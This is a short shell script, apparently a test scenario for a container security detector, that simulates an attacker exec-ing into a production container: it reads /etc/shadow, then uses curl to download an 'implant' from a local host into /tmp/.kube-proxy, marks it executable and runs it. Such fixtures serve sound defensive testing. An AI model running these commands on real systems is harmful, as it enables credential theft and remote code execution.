#!/bin/sh
# malicious: an attacker execs into a production container with a tty: reads /etc/shadow, downloads and runs an implant
# container
. "$(dirname "$0")/../../lib.sh"
ctr_tty <<'CMDS'
id
cat /etc/shadow > /dev/null
curl -s -o /tmp/.kube-proxy http://127.0.0.1:8080/implant
chmod +x /tmp/.kube-proxy
/tmp/.kube-proxy
exit
CMDS
